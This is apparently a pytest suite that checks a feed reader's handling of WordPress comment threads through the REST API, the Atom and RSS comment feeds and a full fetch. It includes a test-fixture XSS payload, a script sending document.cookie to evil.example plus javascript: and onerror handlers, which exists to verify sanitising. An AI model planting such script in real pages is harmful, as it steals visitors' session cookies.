"""WordPress comments read from a real WordPress: Debian's package, run on loopback by ``tests/wordpress_server.py``.

The thread is made the way a blog gets one: the post published through
WordPress's XML-RPC API, visitors' comments sent through the post's comment
form (replies name their parent as the form's ``comment_parent``), the site
owner's reply through XML-RPC; one visitor's comment with three links is held
for moderation by WordPress itself (``comment_max_links`` is 2) and must show
nowhere. Then reader reads it every way it can: the REST root and post id
from the post's own page, the REST API (``wp/v2/comments``) through the real
bounded client, the Atom comment feed (RFC 4685 threading) and the flat RSS
one, and a whole fetch of the blog's feed with full text on, where the post's
page leads to the thread. What WordPress stored (its database) is the
measure.

These tests run only when asked (``READER_WORDPRESS=1``; CI sets
``READER_REQUIRE_WORDPRESS=1``, which also fails instead of skipping when the
server cannot run): the first run apt-installs WordPress and MariaDB.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import wordpress_server
from conftest import skip_unless_required
from fetch_helpers import fetch_settings, subscribe
from wordpress_server import ADMIN, Post, WordPress

from reader.models import ArticleDetail, CommentData, CommentRow, ThreadRef, ThreadSource
from reader.net.http import Limits, make_client
from reader.parse.comments import CommentSources, ParsedThread, parse_thread_result
from reader.parse.sources import threads_in_page
from reader.parse.sources.wordpress import PER_PAGE, from_page
from reader.service.fetch import FetchSummary, fetch
from reader.service.threads import fetch_thread
from reader.store import Store

# One worker runs them all under xdist (one site for the session); they start servers: slow.
pytestmark = [pytest.mark.xdist_group("wordpress"), pytest.mark.slow]

LIMITS = Limits(total_seconds=30)
BASES = CommentSources()


@pytest.fixture(scope="session")
def wordpress() -> Iterator[WordPress]:
    """A fresh WordPress for the session (installed first when missing); stopped, its files removed, at the end."""
    if not wordpress_server.asked():
        pytest.skip(
            "WordPress server tests not asked for: they apt-install Debian's wordpress and MariaDB (root) and "
            "start MariaDB and PHP's web server on loopback; set READER_WORDPRESS=1 to run them"
        )
    try:
        wordpress_server.install()
        site = wordpress_server.start()
    except wordpress_server.Unavailable as error:
        skip_unless_required(f"WordPress is unavailable: {error}", "READER_REQUIRE_WORDPRESS")
    try:
        yield site
    finally:
        site.stop()


# -- the blog -------------------------------------------------------------------------


POST_BODY = "".join(
    f"<!-- wp:paragraph -->\n<p>Part {n} of the guide: a roof garden needs light soil, a drain that never "
    "clogs, and plants that take the wind; sedum does, tomatoes less so.</p>\n<!-- /wp:paragraph -->\n"
    for n in range(1, 7)
)
#: What the site owner replies, as HTML an administrator may write (``unfiltered_html``): WordPress keeps it all.
HOSTILE = (
    "Thanks, all: <strong>water at dawn</strong>."
    '<script>document.location="http://evil.example/?c="+document.cookie</script> '
    '<a href="javascript:alert(1)" onclick="steal()">the drain</a> <img src="x" onerror="alert(2)">'
)
#: The Markdown reader keeps of it: no script, no handler, no javascript: link.
HOSTILE_SHOWN = "Thanks, all: **water at dawn**. the drain"


@dataclass(frozen=True)
class Said:
    """One published comment as it was made: its id, who, what reader should show, and the comment it answers."""

    id: int
    author: str
    text: str
    parent: Said | None = None

    @property
    def depth(self) -> int:
        depth, parent = 0, self.parent
        while parent is not None:
            depth, parent = depth + 1, parent.parent
        return depth


@dataclass(frozen=True)
class Blog:
    """The site with its discussed post (a thread four comments deep and a second one) and a busy post."""

    site: WordPress
    post: Post
    #: The published comments in display order (parents before replies, siblings oldest first).
    thread: list[Said]
    held: int
    busy: Post
    busy_thread: list[Said]


#: Comments on the busy post: more than the REST API's page (100) and WordPress's comment feeds (10).
BUSY = PER_PAGE + 1


@pytest.fixture(scope="session")
def blog(wordpress: WordPress) -> Blog:
    """The comments, each made through WordPress's own form or API (about 3 s with the busy post)."""
    site = wordpress
    post = site.publish("Gardens on roofs", POST_BODY)

    def visitor(author: str, html: str, shown: str, parent: Said | None = None) -> Said:
        email = author.split()[0].lower().encode("ascii", "ignore").decode() + "@example.invalid"
        posted = site.comment(post.id, author, email, html, parent.id if parent else 0)
        assert posted.approved, f"WordPress held {author}'s comment for moderation"
        return Said(posted.id, author, shown, parent)

    alice = visitor(
        "Alice Aubert",
        'Sedum first, <em>then</em> herbs: see <a href="https://example.org/sedum">the list</a>.',
        "Sedum first, _then_ herbs: see [the list](https://example.org/sedum).",
    )
    rain = "Herbs dry out up there.\n\nUnless it rains every day."
    bob = visitor("Bob", rain, rain, alice)
    carol = visitor(
        "Carol",
        "<blockquote>Herbs dry out up there.</blockquote>\n\nNot with a drip line: <code>2 l/day</code>.",
        "> Herbs dry out up there.\n\nNot with a drip line: `2 l/day`.",
        bob,
    )
    owner = Said(site.owner_comment(post.id, HOSTILE, carol.id), ADMIN, HOSTILE_SHOWN, carol)
    zoe = visitor("Zoë Ångström", "A second thread: what about bees?", "A second thread: what about bees?")
    eve = visitor("Eve", "Bees like thyme &amp; lavender.", "Bees like thyme & lavender.", zoe)
    spam = site.comment(
        post.id,
        "Mallory",
        "mallory@example.invalid",
        'Cheap pots: <a href="http://a.example/">one</a> <a href="http://b.example/">two</a> '
        '<a href="http://c.example/">three</a>',
    )
    assert not spam.approved, "WordPress should hold a comment with 3 links (comment_max_links is 2)"

    busy = site.publish("A busy post", POST_BODY)
    busy_thread: list[Said] = []
    for n in range(1, BUSY + 1):
        # The last one (on the REST API's second page) answers the first (on the first page).
        parent = busy_thread[0] if n == BUSY else None
        email = f"visitor{n}@example.invalid"
        posted = site.comment(busy.id, f"Visitor {n}", email, f"Comment number {n}.", parent.id if parent else 0)
        assert posted.approved
        busy_thread.append(Said(posted.id, f"Visitor {n}", f"Comment number {n}.", parent))
    # Display order: the reply right after its parent.
    busy_order = [busy_thread[0], busy_thread[-1], *busy_thread[1:-1]]
    return Blog(site, post, [alice, bob, carol, owner, zoe, eve], spam.id, busy, busy_order)


# -- helpers ----------------------------------------------------------------------------


def read(ref: ThreadRef) -> ParsedThread:
    """The thread read the way the service reads it: the source's fetch through the real bounded client."""

    async def run() -> ParsedThread:
        async with make_client(LIMITS, environ={}) as client:
            return await fetch_thread(ref, client, LIMITS, BASES)

    return asyncio.run(run())


def expected(thread: list[Said]) -> list[tuple[str, str, str, str | None]]:
    """The REST thread reader should give: (guid, author, text, parent guid) in display order."""
    return [
        (f"wordpress:{said.id}", said.author, said.text, f"wordpress:{said.parent.id}" if said.parent else None)
        for said in thread
    ]


def stored(site: WordPress, post: Post) -> list[tuple[int, str, int]]:
    """What WordPress's database says the post's published comments are: (id, author, parent id)."""
    rows = site.sql(
        "SELECT comment_ID, comment_author, comment_parent FROM wp_comments "
        f"WHERE comment_post_ID = {post.id} AND comment_approved = '1' ORDER BY comment_ID;"
    )
    return [(int(ident), author, int(parent)) for ident, author, parent in rows]


def shape(comments: list[CommentData]) -> list[tuple[str, str | None, int | None]]:
    """(author, parent's author, time) of each comment, sorted: how two readings of a thread compare."""
    by_guid = {comment.guid: comment for comment in comments}
    rows = []
    for comment in comments:
        parent = by_guid[comment.parent_guid].author if comment.parent_guid in by_guid else None
        rows.append((comment.author, parent, comment.published))
    return sorted(rows, key=lambda row: (row[0], row[1] or "", row[2] or 0))


def stored_tree(comments: list[CommentRow]) -> list[tuple[str, int, str | None]]:
    """(author, depth, parent's author) of each stored comment, sorted (a feed's order of siblings is its own)."""
    by_id = {comment.id: comment for comment in comments}
    rows = [(c.author, c.depth, by_id[c.parent_id].author if c.parent_id in by_id else None) for c in comments]
    return sorted(rows, key=lambda row: (row[0], row[1], row[2] or ""))


def said_tree(thread: list[Said]) -> list[tuple[str, int, str | None]]:
    """What :func:`stored_tree` should give for the comments made."""
    rows = [(s.author, s.depth, s.parent.author if s.parent else None) for s in thread]
    return sorted(rows, key=lambda row: (row[0], row[1], row[2] or ""))


def as_in_feeds(said: Said, post: Post) -> str:
    """The text WordPress's comment feeds give a reply (since 5.4): a line naming the parent, then the comment."""
    if said.parent is None:
        return said.text
    return f"In reply to [{said.parent.author}]({post.link}#comment-{said.parent.id}).\n\n{said.text}"


def feed_source(site: WordPress, post: Post, feed: str) -> ThreadSource:
    """The article as reader knows it from the blog's feed: guid ``?p=ID`` (WordPress's), link, comment feed."""
    return ThreadSource(1, f"{site.url}?p={post.id}", post.link, f"{post.link}#comments", feed, None)


# -- the post's page ------------------------------------------------------------------------


def test_the_post_page_names_the_rest_root_and_the_post(blog: Blog) -> None:
    """The page WordPress serves for the post leads to its REST root and its id; the front page to no thread."""
    page = blog.site.get(blog.post.link).decode("utf-8")
    want = ThreadRef("wordpress", str(blog.post.id), blog.post.link, api=f"{blog.site.url}wp-json/")
    assert from_page(page, blog.post.link, BASES) == [want]
    # Through the registry, as a fetch asks: the WordPress thread, and no other source mistakes the page for its own.
    assert threads_in_page(page, blog.post.link, BASES) == [want]
    front = blog.site.get("").decode("utf-8")
    assert "https://api.w.org/" in front
    assert from_page(front, blog.site.url, BASES) == []


# -- the REST API -------------------------------------------------------------------------------


def test_the_rest_api_gives_the_tree_wordpress_stored(blog: Blog) -> None:
    """Four comments deep and a second thread: every author, text and parent; the held comment nowhere."""
    ref = from_page(blog.site.get(blog.post.link).decode("utf-8"), blog.post.link, BASES)[0]
    thread = read(ref)
    got = [(c.guid, c.author, c.text, c.parent_guid) for c in thread.comments]
    assert got == expected(blog.thread)
    assert [said.depth for said in blog.thread] == [0, 1, 2, 3, 0, 1]

    # The measure is WordPress's own database: the same comments, the same parents.
    def number(guid: str | None) -> int:
        return int(guid.removeprefix("wordpress:")) if guid else 0

    assert sorted((number(c.guid), c.author, number(c.parent_guid)) for c in thread.comments) == stored(
        blog.site, blog.post
    )
    # The held comment is there, waiting for the owner, and nowhere in what reader got.
    assert blog.site.sql(f"SELECT comment_approved FROM wp_comments WHERE comment_ID = {blog.held};") == [["0"]]
    assert f"wordpress:{blog.held}" not in {c.guid for c in thread.comments}
    assert all(c.url == f"{blog.post.link}#comment-{c.guid.split(':')[1]}" for c in thread.comments)
    assert thread.note is None


def test_the_owners_script_reaches_reader_and_goes_no_further(blog: Blog) -> None:
    """WordPress serves the administrator's <script>, handler and javascript: link as written; reader keeps none."""
    served = json.loads(blog.site.get(f"wp-json/wp/v2/comments?post={blog.post.id}"))
    raw = next(item["content"]["rendered"] for item in served if item["author_name"] == ADMIN)
    assert "<script>" in raw and "onclick" in raw and "javascript:" in raw  # the test has teeth
    ref = ThreadRef("wordpress", str(blog.post.id), blog.post.link, api=f"{blog.site.url}wp-json/")
    owner = next(c for c in read(ref).comments if c.author == ADMIN)
    assert owner.text == HOSTILE_SHOWN
    kept = (owner.html or "").lower()
    for bad in ("<script", "evil.example", "onclick", "onerror", "javascript:"):
        assert bad not in kept and bad not in owner.text.lower(), bad


def test_a_thread_longer_than_a_page_is_read_whole_with_a_reply_across_pages(blog: Blog) -> None:
    """101 comments: two pages of the REST API; the last one (page 2) answers the first (page 1)."""
    ref = ThreadRef("wordpress", str(blog.busy.id), blog.busy.link, api=f"{blog.site.url}wp-json/")
    thread = read(ref)
    assert len(stored(blog.site, blog.busy)) == BUSY
    assert [(c.guid, c.author, c.text, c.parent_guid) for c in thread.comments] == expected(blog.busy_thread)


# -- the comment feeds --------------------------------------------------------------------------


def test_the_atom_comment_feed_gives_the_same_tree(blog: Blog) -> None:
    """The post's Atom comment feed (``/feed/atom/``, RFC 4685 ``thr:in-reply-to``) read as the REST API is."""
    feed = f"{blog.post.link}feed/atom/"
    from_feed = parse_thread_result("feed", blog.site.get(feed), feed_source(blog.site, blog.post, feed)).comments
    ref = ThreadRef("wordpress", str(blog.post.id), blog.post.link, api=f"{blog.site.url}wp-json/")
    from_api = read(ref).comments
    # The same people, parents and times; each reply's text with the line WordPress's feeds put before it.
    assert len(from_feed) == len(from_api) == len(blog.thread) == len({said.author for said in blog.thread})
    assert shape(from_feed) == shape(from_api)
    assert {c.author: c.text for c in from_feed} == {said.author: as_in_feeds(said, blog.post) for said in blog.thread}
    assert {c.url for c in from_feed} == {f"{blog.post.link}#comment-{said.id}" for said in blog.thread}


def test_the_rss_comment_feed_gives_the_same_comments_flat(blog: Blog) -> None:
    """The post's RSS comment feed (``wfw:commentRss``) has no threading: the same comments, all at the top."""
    feed = f"{blog.post.link}feed/"
    comments = parse_thread_result("feed", blog.site.get(feed), feed_source(blog.site, blog.post, feed)).comments
    assert all(c.parent_guid is None for c in comments)
    assert sorted((c.author, c.text) for c in comments) == sorted(
        (said.author, as_in_feeds(said, blog.post)) for said in blog.thread
    )


def test_the_comment_feeds_carry_only_the_newest_ten_comments(blog: Blog) -> None:
    """WordPress's comment feeds stop at "Syndication feeds show the most recent 10 items": the REST API has all."""
    feed = f"{blog.busy.link}feed/atom/"
    comments = parse_thread_result("feed", blog.site.get(feed), feed_source(blog.site, blog.busy, feed)).comments
    assert blog.site.sql("SELECT option_value FROM wp_options WHERE option_name = 'posts_per_rss';") == [["10"]]
    assert len(comments) == 10
    assert {c.author for c in comments} <= {said.author for said in blog.busy_thread}


# -- a site without pretty permalinks ------------------------------------------------------------


@pytest.fixture
def plain_permalinks(blog: Blog) -> Iterator[str]:
    """The site with WordPress's "Plain" permalinks (``?p=ID``, REST at ``?rest_route=/``) for one test."""
    site = blog.site
    before = site.sql("SELECT option_value FROM wp_options WHERE option_name = 'permalink_structure';")[0][0]
    # As the Permalinks screen saves it: the structure, and the rewrite rules dropped to be made again.
    site.set_option("permalink_structure", "")
    site.set_option("rewrite_rules", "")
    try:
        yield f"{site.url}?p={blog.post.id}"
    finally:
        site.set_option("permalink_structure", before)
        site.set_option("rewrite_rules", "")


def test_a_site_without_pretty_permalinks_is_read_through_rest_route(blog: Blog, plain_permalinks: str) -> None:
    """The page names ``index.php?rest_route=/``; the comments are read through it, the same tree."""
    link = plain_permalinks
    refs = from_page(blog.site.get(link).decode("utf-8"), link, BASES)
    assert refs == [ThreadRef("wordpress", str(blog.post.id), link, api=f"{blog.site.url}index.php?rest_route=/")]
    assert [(c.author, c.parent_guid) for c in read(refs[0]).comments] == [
        (author, parent) for _guid, author, _text, parent in expected(blog.thread)
    ]


# -- the whole fetch --------------------------------------------------------------------------------


def fetch_blog(db_path: Path, feed: str, *, full_text: bool) -> FetchSummary:
    """Subscribe to the blog's feed and fetch it, comments on; full text on: every article's page is read."""
    with Store(db_path) as store:
        subscribe(store, feed)
    settings = fetch_settings(LIMITS, full_text=full_text, full_text_threshold=1_000_000, sources=BASES)
    summary = fetch(db_path, settings)
    assert summary.feeds[0].error is None and not summary.thread_errors, summary
    return summary


def stored_post(db_path: Path, site: WordPress, post: Post) -> ArticleDetail:
    """The post as reader stored it (found by its feed guid, WordPress's ``?p=ID``)."""
    with Store(db_path) as store:
        article = store.find_article(f"{site.url}?p={post.id}")
        assert article is not None
        detail = store.article(article)
    assert detail is not None
    return detail


def test_a_fetch_finds_the_thread_in_the_post_page_and_keeps_it(blog: Blog, db_path: Path) -> None:
    """The blog's own RSS feed, full text on: the post's page is read, its WordPress thread stored as a tree."""
    summary = fetch_blog(db_path, f"{blog.site.url}feed/", full_text=True)
    # The discussed post's page and the busy one's gave their text; Hello world!'s one sentence is too short to.
    assert summary.full_texts == 2 and len(summary.page_errors) == 1, summary
    detail = stored_post(db_path, blog.site, blog.post)
    assert "Part 6 of the guide" in detail.text
    threads = {t.source: t for t in detail.threads}
    found = threads["wordpress"]
    assert (found.remote_id, found.found_by, found.comment_count) == (str(blog.post.id), "page", len(blog.thread))
    from_rest = [c for c in detail.comments if c.thread_id == found.id]
    assert [(c.author, c.depth, c.text) for c in from_rest] == [(s.author, s.depth, s.text) for s in blog.thread]
    busy = stored_post(db_path, blog.site, blog.busy)
    busy_thread = next(t for t in busy.threads if t.source == "wordpress")
    assert len([c for c in busy.comments if c.thread_id == busy_thread.id]) == BUSY


def test_a_fetch_keeps_each_comment_of_a_wordpress_post_once(blog: Blog, db_path: Path) -> None:
    """One discussion, one thread: every comment once, the whole tree (the REST API's: the feeds stop at 10)."""
    fetch_blog(db_path, f"{blog.site.url}feed/", full_text=True)
    detail = stored_post(db_path, blog.site, blog.post)
    assert [(c.author, c.depth, c.text) for c in detail.comments] == [(s.author, s.depth, s.text) for s in blog.thread]
    assert detail.article.comment_count == len(blog.thread)
    assert len(stored_post(db_path, blog.site, blog.busy).comments) == BUSY


def test_without_full_text_the_comment_feed_the_item_names_is_read_as_a_tree(blog: Blog, db_path: Path) -> None:
    """No page read: the item's ``wfw:commentRss`` (``/feed/``) leads to its Atom twin, whose replies keep parents."""
    fetch_blog(db_path, f"{blog.site.url}feed/", full_text=False)
    detail = stored_post(db_path, blog.site, blog.post)
    assert [(t.source, t.remote_id, t.found_by) for t in detail.threads] == [("feed", f"{blog.post.link}feed/", "feed")]
    assert stored_tree(detail.comments) == said_tree(blog.thread)
    assert {c.author: c.text for c in detail.comments} == {s.author: as_in_feeds(s, blog.post) for s in blog.thread}


def test_without_pretty_permalinks_the_comment_feed_is_still_read_as_a_tree(
    blog: Blog, plain_permalinks: str, db_path: Path
) -> None:
    """The item names ``?feed=rss2&p=ID``; WordPress serves the same comments threaded at ``?feed=atom&p=ID``."""
    atom = blog.site.get(f"?feed=atom&p={blog.post.id}").decode("utf-8")
    assert atom.count("<thr:in-reply-to") == len(blog.thread)  # WordPress has the tree there
    fetch_blog(db_path, f"{blog.site.url}?feed=rss2", full_text=False)
    detail = stored_post(db_path, blog.site, blog.post)
    assert [t.source for t in detail.threads] == ["feed"]
    assert stored_tree(detail.comments) == said_tree(blog.thread)
